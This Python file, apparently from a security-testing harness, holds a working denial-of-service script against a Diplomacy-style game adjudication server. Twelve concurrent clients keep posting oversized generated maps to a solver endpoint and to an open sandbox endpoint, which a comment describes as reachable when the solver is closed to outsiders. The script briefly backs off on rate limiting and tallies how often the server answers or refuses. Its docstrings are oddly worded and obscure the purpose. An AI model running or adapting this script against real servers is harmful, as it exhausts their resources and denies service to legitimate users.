"""Somebody has maps of his own resolved, as large as they may be and another one each time."""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from typing import Any

import httpx
from attack.target import Target

CONNECTIONS = 12
HALF, BORDERS = 190, 4


async def attack(target: Target) -> str:
    """Goes on for about `target.seconds`, then says how often it was answered and how often refused."""
    until = time.monotonic() + target.seconds
    counted: Counter[str] = Counter()
    async with httpx.AsyncClient(base_url=f"{target.url}/afjd", timeout=60) as http:
        await asyncio.gather(*(_ask_on(http, place, until, counted) for place in range(CONNECTIONS)))
    return ", ".join(f"{count} {what}" for what, count in sorted(counted.items()))


async def _ask_on(http: httpx.AsyncClient, place: int, until: float, counted: Counter[str]) -> None:
    number = place
    while time.monotonic() < until:
        number += CONNECTIONS
        # Where the solver is closed to strangers, the sandbox is still open to all.
        path, body = (
            ("/solver/solve", _problem(number)),
            ("/games/simulation", _sandbox(number)),
        )[number % 2]
        try:
            status = (await http.post(path, json=body)).status_code
        except httpx.HTTPError:
            counted["cut off"] += 1
            continue
        counted["answered" if status == 201 else f"refused with {status}"] += 1
        if status == 429:
            await asyncio.sleep(0.05)


def _problem(number: int) -> dict[str, Any]:
    coasts, seas = range(1, HALF + 1), range(HALF + 1, 2 * HALF + 1)
    variant = {
        "regions": [1] * HALF + [3] * HALF,
        "centers": list(coasts),
        "roles": {"number": 2},
        "start_centers": [[1], [2]],
        "type_coasts": {"number": 0},
        "coastal_zones": [],
        "start_units": [{"1": [], "2": []}, {"1": [], "2": []}],
        "year_zero": 1900 + number % 90_000,
        "neighbouring": [_ring(HALF), _ring(2 * HALF)],
    }
    units = {"1": [[1, zone] for zone in coasts], "2": [[2, zone] for zone in seas]}
    situation = {"ownerships": {}, "units": units, "dislodged_ones": {}, "fake_units": {}, "forbiddens": []}
    orders = [[1, 1, zone, 0, zone % HALF + 1] for zone in coasts]
    return {"variant": variant, "advancement": 0, "situation": situation, "orders": orders, "role": 0}


def _sandbox(number: int) -> dict[str, Any]:
    """A position on the map of the house, another one each time: regions 46 to 56 lie ashore."""
    units = [{"role": zone % 7 + 1, "type_unit": 1, "zone": zone} for zone in range(46, 47 + number % 11)]
    return {"variant_name": "standard", "orders": [], "center_ownerships": [], "units": units}


def _ring(count: int) -> dict[str, list[int]]:
    return {
        str(zone): sorted({(zone - 1 + way) % count + 1 for way in range(-BORDERS, BORDERS + 1) if way})
        for zone in range(1, count + 1)
    }
